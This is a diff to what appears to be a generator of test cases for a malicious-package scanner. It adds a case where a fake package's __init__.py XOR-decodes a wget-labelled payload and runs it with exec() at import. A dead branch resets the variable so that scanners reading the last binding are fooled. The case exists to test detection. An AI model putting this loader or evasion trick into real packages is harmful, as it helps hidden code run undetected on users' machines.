@@ -188,3 +188,15 @@ def define(setup_with, init_with, rot13):
               "an empty text bound before, at import", ["exec-obfuscated-string"], {
                   "envpath_tools/__init__.py": init_with(body)},
               payload="ssh", name=n)
+
+    # The XOR-built payload's name is rebound to an empty text on a branch that never runs
+    # (no such platform): a scanner that takes the last binding sees exec('').
+    n = "platform-shim"
+    key = 0x21
+    codes = [ord(ch) ^ key for ch in P("wget")]
+    body = (f"import sys\n_c = ''.join(chr(c ^ {key}) for c in {codes})\n"
+            "if sys.platform == 'plan9':\n    _c = ''\nexec(_c)\n")
+    imitation("dead-branch-overwrite", "exec() of an XOR-built payload whose name is rebound to "
+              "an empty text on a branch that never runs, at import", [], {
+                  "platform_shim/__init__.py": init_with(body)},
+              payload="wget", name=n)
